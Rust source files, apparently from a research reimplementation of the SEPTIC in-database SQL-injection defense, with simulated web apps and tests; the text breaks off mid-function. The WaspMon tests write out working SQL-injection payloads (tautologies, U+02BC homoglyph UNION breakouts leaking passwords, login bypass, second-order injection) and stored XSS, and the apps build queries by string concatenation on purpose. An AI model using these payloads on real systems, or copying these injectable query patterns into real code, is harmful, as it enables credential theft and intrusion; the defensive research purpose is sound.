                path: "/history",
                params: &[("device", "Kitchen Meter"), ("days", "0")],
                is_static: false,
            },
            RouteSpec {
                method: Method::Get,
                path: "/export",
                params: &[("device_id", "1")],
                is_static: false,
            },
            RouteSpec {
                method: Method::Get,
                path: "/owners",
                params: &[("owner", "alice")],
                is_static: false,
            },
            RouteSpec {
                method: Method::Get,
                path: "/report",
                params: &[("min", "100")],
                is_static: false,
            },
            RouteSpec {
                method: Method::Get,
                path: "/audit",
                params: &[("author", "alice")],
                is_static: false,
            },
            RouteSpec {
                method: Method::Get,
                path: "/notes",
                params: &[("device_id", "1")],
                is_static: false,
            },
            RouteSpec {
                method: Method::Post,
                path: "/notes/add",
                params: &[
                    ("device_id", "1"),
                    ("body", "checked wiring today"),
                    ("author", "alice"),
                ],
                is_static: false,
            },
            RouteSpec {
                method: Method::Post,
                path: "/notes/edit",
                params: &[("id", "1"), ("body", "rechecked wiring, all good")],
                is_static: false,
            },
            RouteSpec {
                method: Method::Get,
                path: "/collectors",
                params: &[],
                is_static: false,
            },
            RouteSpec {
                method: Method::Post,
                path: "/collectors/add",
                params: &[("url", "collector-eu-2")],
                is_static: false,
            },
            RouteSpec {
                method: Method::Get,
                path: "/search",
                params: &[("q", "Meter")],
                is_static: false,
            },
        ]
    }

    fn workload(&self) -> Vec<HttpRequest> {
        vec![
            HttpRequest::get("/"),
            HttpRequest::get("/static/style.css"),
            HttpRequest::post("/login")
                .param("user", "alice")
                .param("pass", ALICE_PASSWORD),
            HttpRequest::get("/devices"),
            HttpRequest::post("/readings/add")
                .param("device_id", "1")
                .param("ts", "12")
                .param("watts", "61.0"),
            HttpRequest::get("/history")
                .param("device", "Kitchen Meter")
                .param("days", "0"),
            HttpRequest::get("/export").param("device_id", "1"),
            HttpRequest::get("/owners").param("owner", "alice"),
            HttpRequest::get("/report").param("min", "100"),
            HttpRequest::get("/audit").param("author", "alice"),
            HttpRequest::get("/notes").param("device_id", "1"),
            HttpRequest::get("/search").param("q", "Meter"),
            HttpRequest::get("/static/logo.png"),
        ]
    }
}

fn rows_to_strings(rows: &[Vec<Value>]) -> Vec<Vec<String>> {
    rows.iter()
        .map(|r| r.iter().map(Value::to_display_string).collect())
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::deployment::Deployment;
    use septic::{Mode, Septic};
    use std::sync::Arc;

    fn deploy() -> Deployment {
        Deployment::new(Arc::new(WaspMon::new()), None, None).expect("install")
    }

    #[test]
    fn benign_flows_work() {
        let d = deploy();
        for req in WaspMon::new().workload() {
            let resp = d.request(&req);
            assert!(
                resp.response.is_success(),
                "{req}: {} {}",
                resp.response.status,
                resp.response.body
            );
        }
    }

    #[test]
    fn login_accepts_and_rejects() {
        let d = deploy();
        let ok = d.request(
            &HttpRequest::post("/login")
                .param("user", "alice")
                .param("pass", ALICE_PASSWORD),
        );
        assert!(ok.response.is_success());
        assert!(ok.response.set_session.is_some());
        let bad = d.request(
            &HttpRequest::post("/login")
                .param("user", "alice")
                .param("pass", "nope"),
        );
        assert_eq!(bad.response.status, Status::Forbidden);
    }

    #[test]
    fn sanitization_stops_plain_quote_attacks() {
        // The escaping DOES work against ASCII-quote payloads.
        let d = deploy();
        let resp = d.request(
            &HttpRequest::post("/login")
                .param("user", "admin' OR '1'='1")
                .param("pass", "x"),
        );
        assert_eq!(resp.response.status, Status::Forbidden);
    }

    #[test]
    fn numeric_context_injection_dumps_everything() {
        // Phase IV-A attack 1: escaping without quotes is no protection.
        let d = deploy();
        let benign = d.request(
            &HttpRequest::get("/history")
                .param("device", "Kitchen Meter")
                .param("days", "0"),
        );
        let attack = d.request(
            &HttpRequest::get("/history")
                .param("device", "zzz-no-such")
                .param("days", "0 OR 1=1"),
        );
        // The attack returns rows for a device that does not exist.
        assert!(
            attack.response.body.matches("<tr>").count()
                >= benign.response.body.matches("<tr>").count()
        );
        assert!(attack.response.body.contains("800"), "garage rows leak");
    }

    #[test]
    fn homoglyph_breakout_leaks_passwords_first_order() {
        // Phase IV-A attack 2: U+02BC passes the escaping, the DBMS folds
        // it into a quote, and the hidden UNION exfiltrates credentials.
        let d = deploy();
        let payload = "zz\u{02BC} UNION SELECT username, password FROM users-- ".to_string();
        let resp = d.request(
            &HttpRequest::get("/history")
                .param("device", payload)
                .param("days", "0"),
        );
        assert!(
            resp.response.body.contains(ADMIN_PASSWORD),
            "{}",
            resp.response.body
        );
    }

    #[test]
    fn login_mimicry_bypasses_authentication() {
        // Phase IV-A attack 3: syntax mimicry through the homoglyph.
        let d = deploy();
        let resp = d.request(
            &HttpRequest::post("/login")
                .param("user", "admin\u{02BC} AND 1=1-- ")
                .param("pass", "whatever"),
        );
        assert!(resp.response.is_success(), "{}", resp.response.body);
        assert!(resp.response.body.contains("admin"));
    }

    #[test]
    fn second_order_export_leaks_passwords() {
        // Phase IV-A attack 4: store through the safe path, detonate in
        // the legacy path.
        let d = deploy();
        let bomb = "X\u{02BC} UNION SELECT username, password, 1 FROM users-- ";
        let store = d.request(
            &HttpRequest::post("/devices/add")
                .param("name", bomb)
                .param("location", "attic"),
        );
        assert!(store.response.is_success(), "store must look benign");
        // Find the new device's id (3: after the two seeded ones).
        let resp = d.request(&HttpRequest::get("/export").param("device_id", "3"));
        assert!(
            resp.response.body.contains(ADMIN_PASSWORD),
            "{}",
            resp.response.body
        );
    }

    #[test]
    fn owners_join_route_works_and_leaks_under_homoglyph_union() {
        let d = deploy();
        let benign = d.request(&HttpRequest::get("/owners").param("owner", "alice"));
        assert!(benign.response.is_success());
        assert!(
            benign.response.body.contains("Kitchen Meter"),
            "{}",
            benign.response.body
        );
        // Homoglyph breakout + UNION matched to the joined 2-column list.
        let attack = d.request(&HttpRequest::get("/owners").param(
            "owner",
            "zz\u{02BC} UNION SELECT username, password FROM users-- ",
        ));
        assert!(
            attack.response.body.contains(ADMIN_PASSWORD),
            "{}",
            attack.response.body
        );
    }

    #[test]
    fn report_groups_usage_and_tautology_bypasses_threshold() {
        let d = deploy();
        // Only the garage meter (1615.5 W total) clears the threshold.
        let benign = d.request(&HttpRequest::get("/report").param("min", "1000"));
        assert!(benign.response.is_success());
        assert!(benign.response.body.contains("Garage Meter"));
        assert!(!benign.response.body.contains("Kitchen Meter"));
        // HAVING tautology: escaping the unquoted numeric slot is useless.
        let attack = d.request(&HttpRequest::get("/report").param("min", "1000 OR 1=1"));
        assert!(
            attack.response.body.contains("Kitchen Meter"),
            "{}",
            attack.response.body
        );
    }

    #[test]
    fn audit_subquery_route_works_and_leaks_after_paren_breakout() {
        let d = deploy();
        let benign = d.request(&HttpRequest::get("/audit").param("author", "alice"));
        assert!(benign.response.is_success());
        assert!(
            benign.response.body.contains("Kitchen Meter"),
            "{}",
            benign.response.body
        );
        // Close the IN-subquery with the homoglyph breakout and smuggle a
        // UNION onto the single-column outer select.
        let attack = d.request(
            &HttpRequest::get("/audit")
                .param("author", "zz\u{02BC}) UNION SELECT password FROM users-- "),
        );
        assert!(
            attack.response.body.contains(ADMIN_PASSWORD),
            "{}",
            attack.response.body
        );
    }

    #[test]
    fn septic_blocks_construct_route_attacks_after_training() {
        // End-to-end: train SEPTIC on the benign workload, then fire one
        // attack per construct route — every one must be dropped.
        let septic = Arc::new(Septic::new());
        let d =
            Deployment::new(Arc::new(WaspMon::new()), None, Some(septic.clone())).expect("install");
        septic.set_mode(Mode::Training);
        for req in WaspMon::new().workload() {
            let resp = d.request(&req);
            assert!(resp.response.is_success(), "training {req}");
        }
        septic.set_mode(Mode::PREVENTION);
        let attacks = [
            HttpRequest::get("/owners").param(
                "owner",
                "zz\u{02BC} UNION SELECT username, password FROM users-- ",
            ),
            HttpRequest::get("/report").param("min", "1000 OR 1=1"),
            HttpRequest::get("/audit")
                .param("author", "zz\u{02BC}) UNION SELECT password FROM users-- "),
        ];
        for attack in attacks {
            let resp = d.request(&attack);
            assert!(
                !resp.response.body.contains(ADMIN_PASSWORD) && !resp.response.is_success(),
                "{attack}: {} {}",
                resp.response.status,
                resp.response.body
            );
        }
        let snap = septic.counters();
        assert!(
            snap.join_attacks >= 1,
            "join counter: {}",
            snap.join_attacks
        );
        assert!(
            snap.group_by_attacks >= 1,
            "group-by counter: {}",
            snap.group_by_attacks
        );
        assert!(
            snap.subquery_attacks >= 1,
            "subquery counter: {}",
            snap.subquery_attacks
        );
    }

    #[test]
    fn stored_xss_round_trip_without_septic() {
        let d = deploy();
        let store = d.request(
            &HttpRequest::post("/notes/add")
                .param("device_id", "1")
                .param("body", "<script>alert('Hello!');</script>")
                .param("author", "mallory"),
        );
        assert!(store.response.is_success());
        let view = d.request(&HttpRequest::get("/notes").param("device_id", "1"));
        assert!(
            view.response.body.contains("<script>"),
            "XSS executes in the page"
        );
    }

    #[test]
    fn note_edit_updates_body() {
        let d = deploy();
        let resp = d.request(
            &HttpRequest::post("/notes/edit")
                .param("id", "1")
                .param("body", "new text"),
        );
        assert!(resp.response.is_success());
        let view = d.request(&HttpRequest::get("/notes").param("device_id", "1"));
        assert!(view.response.body.contains("new text"));
        let missing = d.request(
            &HttpRequest::post("/notes/edit")
                .param("id", "99")
                .param("body", "x"),
        );
        assert_eq!(missing.response.status, Status::NotFound);
    }

    #[test]
    fn unknown_route_is_404() {
        let d = deploy();
        assert_eq!(
            d.request(&HttpRequest::get("/nope")).response.status,
            Status::NotFound
        );
    }
}
