//! **ZeroCMS** — the content management system used as the third Figure 5
//! workload application. Its recorded workload is the largest of the three:
//! 26 requests mixing `SELECT`, `UPDATE`, `INSERT` and `DELETE` plus web
//! object downloads (images, css), exactly as the paper describes.

use septic_dbms::{Connection, DbError, Value};
use septic_http::{HttpRequest, HttpResponse, Method, Status};

use crate::framework::{db_error_response, html_table, page, RouteSpec, WebApp};
use crate::php::{intval, mysql_real_escape_string as esc};

/// The application.
#[derive(Debug, Clone, Copy, Default)]
pub struct ZeroCms;

impl ZeroCms {
    /// Creates the application.
    #[must_use]
    pub fn new() -> Self {
        ZeroCms
    }
}

impl WebApp for ZeroCms {
    fn name(&self) -> &'static str {
        "ZeroCMS"
    }

    fn install(&self, conn: &Connection) -> Result<(), DbError> {
        conn.execute(
            "CREATE TABLE cms_users (id INT PRIMARY KEY AUTO_INCREMENT, \
             name VARCHAR(40) NOT NULL, email VARCHAR(64), pass VARCHAR(64))",
        )?;
        conn.execute(
            "CREATE TABLE articles (id INT PRIMARY KEY AUTO_INCREMENT, \
             title VARCHAR(120) NOT NULL, body TEXT, author INT, views INT DEFAULT 0)",
        )?;
        conn.execute(
            "CREATE TABLE comments (id INT PRIMARY KEY AUTO_INCREMENT, \
             article_id INT NOT NULL, author VARCHAR(40), body TEXT)",
        )?;
        conn.execute(
            "INSERT INTO cms_users (name, email, pass) VALUES \
             ('editor', 'editor@example.org', 'editor-pass'), \
             ('reader', 'reader@example.org', 'reader-pass')",
        )?;
        conn.execute(
            "INSERT INTO articles (title, body, author) VALUES \
             ('Welcome to ZeroCMS', 'First post body', 1), \
             ('Securing web apps', 'Sanitize all the things', 1), \
             ('Power grid news', 'Smart meters everywhere', 2)",
        )?;
        conn.execute(
            "INSERT INTO comments (article_id, author, body) VALUES \
             (1, 'reader', 'nice start'), (2, 'reader', 'or use SEPTIC')",
        )?;
        Ok(())
    }

    #[allow(clippy::too_many_lines)]
    fn handle(&self, req: &HttpRequest, conn: &Connection) -> HttpResponse {
        match (req.method, req.path.as_str()) {
            (Method::Get, "/") | (Method::Get, "/index.php") => {
                match conn.query(
                    "/* qid:cms-home */ SELECT id, title, views FROM articles ORDER BY id DESC",
                ) {
                    Ok(out) => HttpResponse::ok(page(
                        "ZeroCMS",
                        &html_table(&["id", "title", "views"], &to_strings(&out.rows)),
                    )),
                    Err(e) => db_error_response(&e),
                }
            }
            (Method::Get, "/article.php") => {
                let id = intval(req.param_or_empty("id"));
                // View counter: the UPDATE in the workload mix.
                if let Err(e) = conn.execute(&format!(
                    "/* qid:cms-views */ UPDATE articles SET views = views + 1 WHERE id = {id}"
                )) {
                    return db_error_response(&e);
                }
                let article = match conn.query(&format!(
                    "/* qid:cms-article */ SELECT title, body, views FROM articles WHERE id = {id}"
                )) {
                    Ok(out) if !out.rows.is_empty() => out,
                    Ok(_) => return HttpResponse::error(Status::NotFound, "no such article"),
                    Err(e) => return db_error_response(&e),
                };
                let comments = match conn.query(&format!(
                    "/* qid:cms-comments */ SELECT author, body FROM comments \
                     WHERE article_id = {id} ORDER BY id"
                )) {
                    Ok(out) => out,
                    Err(e) => return db_error_response(&e),
                };
                let mut body = html_table(&["title", "body", "views"], &to_strings(&article.rows));
                body.push_str(&html_table(
                    &["author", "comment"],
                    &to_strings(&comments.rows),
                ));
                HttpResponse::ok(page("Article", &body))
            }
            (Method::Post, "/comment.php") => {
                let article = intval(req.param_or_empty("article_id"));
                let author = esc(req.param_or_empty("author"));
                let body = esc(req.param_or_empty("body"));
                let sql = format!(
                    "/* qid:cms-comment */ INSERT INTO comments (article_id, author, body) \
                     VALUES ({article}, '{author}', '{body}')"
                );
                match conn.execute(&sql) {
                    Ok(_) => HttpResponse::ok(page("Comment stored", "thanks")),
                    Err(e) => db_error_response(&e),
                }
            }
            (Method::Post, "/article_new.php") => {
                let title = req.param_or_empty("title").to_string();
                let body = req.param_or_empty("body").to_string();
                match conn.execute_prepared(
                    "INSERT INTO articles (title, body, author) VALUES (?, ?, 1)",
                    &[Value::from(title), Value::from(body)],
                ) {
                    Ok(_) => HttpResponse::ok(page("Published", "article stored")),
                    Err(e) => db_error_response(&e),
                }
            }
            (Method::Post, "/comment_delete.php") => {
                let id = intval(req.param_or_empty("id"));
                let sql = format!("/* qid:cms-comment-del */ DELETE FROM comments WHERE id = {id}");
                match conn.execute(&sql) {
                    Ok(_) => HttpResponse::ok(page("Deleted", "comment removed")),
                    Err(e) => db_error_response(&e),
                }
            }
            (Method::Get, "/search.php") => {
                let q = esc(req.param_or_empty("q"));
                let sql = format!(
                    "/* qid:cms-search */ SELECT id, title FROM articles \
                     WHERE title LIKE '%{q}%' OR body LIKE '%{q}%' ORDER BY id"
                );
                match conn.query(&sql) {
                    Ok(out) => HttpResponse::ok(page(
                        "Search",
                        &html_table(&["id", "title"], &to_strings(&out.rows)),
                    )),
                    Err(e) => db_error_response(&e),
                }
            }
            (Method::Post, "/login.php") => {
                let email = esc(req.param_or_empty("email"));
                let pass = esc(req.param_or_empty("pass"));
                let sql = format!(
                    "/* qid:cms-login */ SELECT id, name FROM cms_users \
                     WHERE email = '{email}' AND pass = '{pass}'"
                );
                match conn.query(&sql) {
                    Ok(out) => match out.rows.first() {
                        Some(row) => HttpResponse::ok(page("Hi", &format!("hello {}", row[1])))
                            .with_session(format!("uid:{}", row[0])),
                        None => HttpResponse::error(Status::Forbidden, "bad login"),
                    },
                    Err(e) => db_error_response(&e),
                }
            }
            (Method::Get, "/css/zero.css") => {
                HttpResponse::ok("article { margin: 8px; }".repeat(8))
            }
            (Method::Get, "/img/banner.jpg") => HttpResponse::ok("JFIF-banner".repeat(64)),
            (Method::Get, "/img/icon.png") => HttpResponse::ok("PNG-icon".repeat(16)),
            _ => HttpResponse::error(Status::NotFound, "not found"),
        }
    }

    fn routes(&self) -> Vec<RouteSpec> {
        vec![
            RouteSpec {
                method: Method::Get,
                path: "/",
                params: &[],
                is_static: false,
            },
            RouteSpec {
                method: Method::Get,
                path: "/article.php",
                params: &[("id", "1")],
                is_static: false,
            },
            RouteSpec {
                method: Method::Post,
                path: "/comment.php",
                params: &[
                    ("article_id", "1"),
                    ("author", "trainer"),
                    ("body", "a benign comment"),
                ],
                is_static: false,
            },
            RouteSpec {
                method: Method::Post,
                path: "/article_new.php",
                params: &[("title", "Training title"), ("body", "Training body")],
                is_static: false,
            },
            RouteSpec {
                method: Method::Post,
                path: "/comment_delete.php",
                params: &[("id", "99")],
                is_static: false,
            },
            RouteSpec {
                method: Method::Get,
                path: "/search.php",
                params: &[("q", "web")],
                is_static: false,
            },
            RouteSpec {
                method: Method::Post,
                path: "/login.php",
                params: &[("email", "reader@example.org"), ("pass", "reader-pass")],
                is_static: false,
            },
            RouteSpec {
                method: Method::Get,
                path: "/css/zero.css",
                params: &[],
                is_static: true,
            },
            RouteSpec {
                method: Method::Get,
                path: "/img/banner.jpg",
                params: &[],
                is_static: true,
            },
            RouteSpec {
                method: Method::Get,
                path: "/img/icon.png",
                params: &[],
                is_static: true,
            },
        ]
    }

    /// The 26-request ZeroCMS workload: "queries of several types (SELECT,
    /// UPDATE, INSERT and DELETE) and downloading of web objects".
    fn workload(&self) -> Vec<HttpRequest> {
        vec![
            HttpRequest::get("/"),
            HttpRequest::get("/css/zero.css"),
            HttpRequest::get("/img/banner.jpg"),
            HttpRequest::get("/img/icon.png"),
            HttpRequest::post("/login.php")
                .param("email", "reader@example.org")
                .param("pass", "reader-pass"),
            HttpRequest::get("/article.php").param("id", "1"),
            HttpRequest::get("/article.php").param("id", "2"),
            HttpRequest::post("/comment.php")
                .param("article_id", "2")
                .param("author", "reader")
                .param("body", "useful article"),
            HttpRequest::get("/article.php").param("id", "2"),
            HttpRequest::get("/search.php").param("q", "grid"),
            HttpRequest::get("/article.php").param("id", "3"),
            HttpRequest::post("/comment.php")
                .param("article_id", "3")
                .param("author", "reader")
                .param("body", "more meters please"),
            HttpRequest::get("/article.php").param("id", "3"),
            HttpRequest::post("/article_new.php")
                .param("title", "A fresh article")
                .param("body", "Fresh body text"),
            HttpRequest::get("/"),
            HttpRequest::get("/article.php").param("id", "4"),
            HttpRequest::get("/css/zero.css"),
            HttpRequest::get("/img/banner.jpg"),
            HttpRequest::post("/comment.php")
                .param("article_id", "4")
                .param("author", "reader")
                .param("body", "first"),
            HttpRequest::get("/article.php").param("id", "4"),
            HttpRequest::post("/comment_delete.php").param("id", "3"),
            HttpRequest::get("/article.php").param("id", "2"),
            HttpRequest::get("/search.php").param("q", "zerocms"),
            HttpRequest::get("/"),
            HttpRequest::get("/img/icon.png"),
            HttpRequest::get("/css/zero.css"),
        ]
    }
}

fn to_strings(rows: &[Vec<Value>]) -> Vec<Vec<String>> {
    rows.iter()
        .map(|r| r.iter().map(Value::to_display_string).collect())
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::deployment::Deployment;
    use std::sync::Arc;

    #[test]
    fn workload_has_26_requests_and_succeeds() {
        let app = ZeroCms::new();
        assert_eq!(app.workload().len(), 26);
        let d = Deployment::new(Arc::new(app), None, None).unwrap();
        for req in ZeroCms::new().workload() {
            let resp = d.request(&req);
            assert!(resp.response.is_success(), "{req}: {}", resp.response.body);
        }
    }

    #[test]
    fn workload_mixes_statement_kinds() {
        let d = Deployment::new(Arc::new(ZeroCms::new()), None, None).unwrap();
        for req in ZeroCms::new().workload() {
            let _ = d.request(&req);
        }
        let log = d.server().general_log();
        let has = |kw: &str| log.iter().any(|e| e.sql.to_uppercase().contains(kw));
        assert!(has("SELECT") && has("UPDATE") && has("INSERT") && has("DELETE"));
    }

    #[test]
    fn view_counter_updates() {
        let d = Deployment::new(Arc::new(ZeroCms::new()), None, None).unwrap();
        let _ = d.request(&HttpRequest::get("/article.php").param("id", "1"));
        let _ = d.request(&HttpRequest::get("/article.php").param("id", "1"));
        let resp = d.request(&HttpRequest::get("/article.php").param("id", "1"));
        assert!(
            resp.response.body.contains("<td>3</td>"),
            "{}",
            resp.response.body
        );
    }
}
