//! **PHP Address Book** — one of the three real applications used for the
//! Figure 5 overhead workloads (12 requests: contact browsing, search,
//! add/edit, plus static objects).

use septic_dbms::{Connection, DbError, Value};
use septic_http::{HttpRequest, HttpResponse, Method, Status};

use crate::framework::{db_error_response, html_table, page, RouteSpec, WebApp};
use crate::php::{intval, mysql_real_escape_string as esc};

/// The application.
#[derive(Debug, Clone, Copy, Default)]
pub struct PhpAddressBook;

impl PhpAddressBook {
    /// Creates the application.
    #[must_use]
    pub fn new() -> Self {
        PhpAddressBook
    }
}

impl WebApp for PhpAddressBook {
    fn name(&self) -> &'static str {
        "PHP Address Book"
    }

    fn install(&self, conn: &Connection) -> Result<(), DbError> {
        conn.execute(
            "CREATE TABLE addresses (id INT PRIMARY KEY AUTO_INCREMENT, \
             firstname VARCHAR(40) NOT NULL, lastname VARCHAR(40), \
             email VARCHAR(64), phone VARCHAR(24), city VARCHAR(40))",
        )?;
        conn.execute(
            "INSERT INTO addresses (firstname, lastname, email, phone, city) VALUES \
             ('Ana', 'Silva', 'ana@example.org', '21-555-0100', 'Lisboa'), \
             ('Bruno', 'Costa', 'bruno@example.org', '22-555-0101', 'Porto'), \
             ('Carla', 'Santos', 'carla@example.org', '21-555-0102', 'Lisboa'), \
             ('Duarte', 'Pereira', 'duarte@example.org', '289-555-0103', 'Faro')",
        )?;
        Ok(())
    }

    fn handle(&self, req: &HttpRequest, conn: &Connection) -> HttpResponse {
        match (req.method, req.path.as_str()) {
            (Method::Get, "/") | (Method::Get, "/index.php") => {
                match conn.query(
                    "/* qid:ab-list */ SELECT id, firstname, lastname, city FROM addresses \
                     ORDER BY lastname, firstname",
                ) {
                    Ok(out) => HttpResponse::ok(page(
                        "Address Book",
                        &html_table(&["id", "first", "last", "city"], &to_strings(&out.rows)),
                    )),
                    Err(e) => db_error_response(&e),
                }
            }
            (Method::Get, "/view.php") => {
                let id = intval(req.param_or_empty("id"));
                let sql = format!(
                    "/* qid:ab-view */ SELECT firstname, lastname, email, phone, city \
                     FROM addresses WHERE id = {id}"
                );
                match conn.query(&sql) {
                    Ok(out) if !out.rows.is_empty() => HttpResponse::ok(page(
                        "Contact",
                        &html_table(
                            &["first", "last", "email", "phone", "city"],
                            &to_strings(&out.rows),
                        ),
                    )),
                    Ok(_) => HttpResponse::error(Status::NotFound, "no such contact"),
                    Err(e) => db_error_response(&e),
                }
            }
            (Method::Get, "/search.php") => {
                let q = esc(req.param_or_empty("q"));
                let sql = format!(
                    "/* qid:ab-search */ SELECT firstname, lastname, email FROM addresses \
                     WHERE lastname LIKE '%{q}%' OR firstname LIKE '%{q}%' ORDER BY lastname"
                );
                match conn.query(&sql) {
                    Ok(out) => HttpResponse::ok(page(
                        "Search",
                        &html_table(&["first", "last", "email"], &to_strings(&out.rows)),
                    )),
                    Err(e) => db_error_response(&e),
                }
            }
            (Method::Post, "/add.php") => {
                let first = esc(req.param_or_empty("firstname"));
                let last = esc(req.param_or_empty("lastname"));
                let email = esc(req.param_or_empty("email"));
                let city = esc(req.param_or_empty("city"));
                if first.is_empty() {
                    return HttpResponse::error(Status::BadRequest, "firstname required");
                }
                let sql = format!(
                    "/* qid:ab-add */ INSERT INTO addresses (firstname, lastname, email, city) \
                     VALUES ('{first}', '{last}', '{email}', '{city}')"
                );
                match conn.execute(&sql) {
                    Ok(_) => HttpResponse::ok(page("Added", "contact saved")),
                    Err(e) => db_error_response(&e),
                }
            }
            (Method::Post, "/edit.php") => {
                let id = intval(req.param_or_empty("id"));
                let phone = esc(req.param_or_empty("phone"));
                let sql = format!(
                    "/* qid:ab-edit */ UPDATE addresses SET phone = '{phone}' WHERE id = {id}"
                );
                match conn.execute(&sql) {
                    Ok(_) => HttpResponse::ok(page("Updated", "contact updated")),
                    Err(e) => db_error_response(&e),
                }
            }
            (Method::Post, "/delete.php") => {
                let id = intval(req.param_or_empty("id"));
                match conn.execute_prepared("DELETE FROM addresses WHERE id = ?", &[Value::Int(id)])
                {
                    Ok(_) => HttpResponse::ok(page("Deleted", "contact removed")),
                    Err(e) => db_error_response(&e),
                }
            }
            (Method::Get, "/style.css") => HttpResponse::ok(".list { margin: 1em; }".repeat(6)),
            _ => HttpResponse::error(Status::NotFound, "not found"),
        }
    }

    fn routes(&self) -> Vec<RouteSpec> {
        vec![
            RouteSpec {
                method: Method::Get,
                path: "/",
                params: &[],
                is_static: false,
            },
            RouteSpec {
                method: Method::Get,
                path: "/view.php",
                params: &[("id", "1")],
                is_static: false,
            },
            RouteSpec {
                method: Method::Get,
                path: "/search.php",
                params: &[("q", "Silva")],
                is_static: false,
            },
            RouteSpec {
                method: Method::Post,
                path: "/add.php",
                params: &[
                    ("firstname", "Eva"),
                    ("lastname", "Martins"),
                    ("email", "eva@example.org"),
                    ("city", "Braga"),
                ],
                is_static: false,
            },
            RouteSpec {
                method: Method::Post,
                path: "/edit.php",
                params: &[("id", "1"), ("phone", "21-555-0199")],
                is_static: false,
            },
            RouteSpec {
                method: Method::Post,
                path: "/delete.php",
                params: &[("id", "4")],
                is_static: false,
            },
            RouteSpec {
                method: Method::Get,
                path: "/style.css",
                params: &[],
                is_static: true,
            },
        ]
    }

    /// The 12-request PHP Address Book workload of the paper's evaluation.
    fn workload(&self) -> Vec<HttpRequest> {
        vec![
            HttpRequest::get("/"),
            HttpRequest::get("/style.css"),
            HttpRequest::get("/view.php").param("id", "1"),
            HttpRequest::get("/view.php").param("id", "2"),
            HttpRequest::get("/search.php").param("q", "Silva"),
            HttpRequest::post("/add.php")
                .param("firstname", "Eva")
                .param("lastname", "Martins")
                .param("email", "eva@example.org")
                .param("city", "Braga"),
            HttpRequest::get("/"),
            HttpRequest::get("/search.php").param("q", "Martins"),
            HttpRequest::post("/edit.php")
                .param("id", "2")
                .param("phone", "22-555-0777"),
            HttpRequest::get("/view.php").param("id", "2"),
            HttpRequest::get("/search.php").param("q", "Costa"),
            HttpRequest::get("/style.css"),
        ]
    }
}

fn to_strings(rows: &[Vec<Value>]) -> Vec<Vec<String>> {
    rows.iter()
        .map(|r| r.iter().map(Value::to_display_string).collect())
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::deployment::Deployment;
    use std::sync::Arc;

    #[test]
    fn workload_has_12_requests_and_succeeds() {
        let app = PhpAddressBook::new();
        assert_eq!(app.workload().len(), 12);
        let d = Deployment::new(Arc::new(app), None, None).unwrap();
        for req in PhpAddressBook::new().workload() {
            let resp = d.request(&req);
            assert!(resp.response.is_success(), "{req}: {}", resp.response.body);
        }
    }

    #[test]
    fn crud_cycle() {
        let d = Deployment::new(Arc::new(PhpAddressBook::new()), None, None).unwrap();
        let _ = d.request(
            &HttpRequest::post("/add.php")
                .param("firstname", "Zed")
                .param("lastname", "Zz"),
        );
        let found = d.request(&HttpRequest::get("/search.php").param("q", "Zz"));
        assert!(found.response.body.contains("Zed"));
        let _ = d.request(&HttpRequest::post("/delete.php").param("id", "5"));
        let gone = d.request(&HttpRequest::get("/search.php").param("q", "Zz"));
        assert!(!gone.response.body.contains("Zed"));
    }
}
