//! The simulated applications: the demo scenario (WaspMon) and the three
//! Figure 5 workload applications.

pub mod addressbook;
pub mod refbase;
pub mod waspmon;
pub mod zerocms;

pub use addressbook::PhpAddressBook;
pub use refbase::Refbase;
pub use waspmon::WaspMon;
pub use zerocms::ZeroCms;

/// All three Figure 5 workload applications, in the paper's order.
#[must_use]
pub fn workload_apps() -> Vec<std::sync::Arc<dyn crate::framework::WebApp>> {
    vec![
        std::sync::Arc::new(PhpAddressBook::new()),
        std::sync::Arc::new(Refbase::new()),
        std::sync::Arc::new(ZeroCms::new()),
    ]
}
