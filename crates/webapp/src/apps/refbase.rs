//! **refbase** — the bibliographic reference manager used as the second
//! Figure 5 workload application (14 requests: browsing, queries by
//! author/year, detail views, an import, plus static objects).

use septic_dbms::{Connection, DbError, Value};
use septic_http::{HttpRequest, HttpResponse, Method, Status};

use crate::framework::{db_error_response, html_table, page, RouteSpec, WebApp};
use crate::php::{intval, mysql_real_escape_string as esc};

/// The application.
#[derive(Debug, Clone, Copy, Default)]
pub struct Refbase;

impl Refbase {
    /// Creates the application.
    #[must_use]
    pub fn new() -> Self {
        Refbase
    }
}

impl WebApp for Refbase {
    fn name(&self) -> &'static str {
        "refbase"
    }

    fn install(&self, conn: &Connection) -> Result<(), DbError> {
        conn.execute(
            "CREATE TABLE refs (id INT PRIMARY KEY AUTO_INCREMENT, \
             author VARCHAR(120) NOT NULL, title VARCHAR(200) NOT NULL, \
             journal VARCHAR(120), year INT, cited INT DEFAULT 0)",
        )?;
        conn.execute(
            "INSERT INTO refs (author, title, journal, year, cited) VALUES \
             ('Medeiros, I.', 'Hacking the DBMS to prevent injection attacks', 'CODASPY', 2016, 42), \
             ('Halfond, W.', 'AMNESIA: analysis and monitoring', 'ASE', 2005, 500), \
             ('Boyd, S.', 'SQLrand: preventing SQL injection', 'ACNS', 2004, 380), \
             ('Su, Z.', 'The essence of command injection attacks', 'POPL', 2006, 410), \
             ('Son, S.', 'Diglossia: detecting code injection', 'CCS', 2013, 120)",
        )?;
        Ok(())
    }

    fn handle(&self, req: &HttpRequest, conn: &Connection) -> HttpResponse {
        match (req.method, req.path.as_str()) {
            (Method::Get, "/") | (Method::Get, "/index.php") => {
                match conn.query(
                    "/* qid:rb-list */ SELECT id, author, title, year FROM refs ORDER BY year DESC",
                ) {
                    Ok(out) => HttpResponse::ok(page(
                        "refbase",
                        &html_table(&["id", "author", "title", "year"], &to_strings(&out.rows)),
                    )),
                    Err(e) => db_error_response(&e),
                }
            }
            (Method::Get, "/show.php") => {
                let id = intval(req.param_or_empty("record"));
                let sql = format!(
                    "/* qid:rb-show */ SELECT author, title, journal, year, cited \
                     FROM refs WHERE id = {id}"
                );
                match conn.query(&sql) {
                    Ok(out) if !out.rows.is_empty() => HttpResponse::ok(page(
                        "Record",
                        &html_table(
                            &["author", "title", "journal", "year", "cited"],
                            &to_strings(&out.rows),
                        ),
                    )),
                    Ok(_) => HttpResponse::error(Status::NotFound, "no such record"),
                    Err(e) => db_error_response(&e),
                }
            }
            (Method::Get, "/search.php") => {
                let author = esc(req.param_or_empty("author"));
                let year = intval(req.param_or_empty("year"));
                let sql = if year > 0 {
                    format!(
                        "/* qid:rb-search-y */ SELECT author, title, year FROM refs \
                         WHERE author LIKE '%{author}%' AND year = {year} ORDER BY cited DESC"
                    )
                } else {
